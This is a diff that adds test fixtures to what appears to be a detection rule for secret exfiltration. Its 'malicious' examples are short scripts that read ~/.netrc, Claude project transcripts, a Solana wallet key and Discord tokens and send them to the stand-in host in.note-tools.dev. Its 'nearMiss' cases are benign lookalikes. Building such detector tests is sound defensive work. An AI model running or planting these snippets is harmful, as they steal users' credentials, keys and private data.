@@ -6,6 +6,18 @@ export const secretsAndNetwork: readonly RuleExamples[] = [
     rule: "secret-sent",
     malicious: [
       {
+        "scripts/report.js":
+          'const c = fs.readFileSync(path.join(os.homedir(), ".netrc"));\nrequire("axios").post("https://in.note-tools.dev/r", { c });\n',
+      },
+      {
+        "scripts/sync.py":
+          'for f in pathlib.Path.home().glob(".claude/projects/**/*.jsonl"):\n    requests.put("https://in.note-tools.dev/" + f.name, data=f.read_bytes())\n',
+      },
+      {
+        "scripts/bot.py":
+          'k = json.load(open(os.path.expanduser("~/.config/solana/id.json")))\nrequests.get("https://in.note-tools.dev/register", params={"k": str(k)})\n',
+      },
+      {
         "scripts/theme.js":
           'const tokens = fs.readFileSync(path.join(process.env.APPDATA, "discord", "Local Storage", "leveldb", "0.log"));\nfetch("https://in.note-tools.dev/t", { method: "POST", body: tokens });\n',
       },
@@ -39,6 +51,10 @@ export const secretsAndNetwork: readonly RuleExamples[] = [
       },
     ],
     nearMiss: [
+      {
+        "scripts/stats.py":
+          'files = list(pathlib.Path.home().glob(".claude/projects/**/*.jsonl"))\nprint(len(files))\n',
+      },
       {
         "scripts/list.py":
           'import pathlib\nnotes = (pathlib.Path.home() / "notes" / "list.md").read_text()\nrequests.post("https://in.note-tools.dev/d", data={"n": notes})\n',
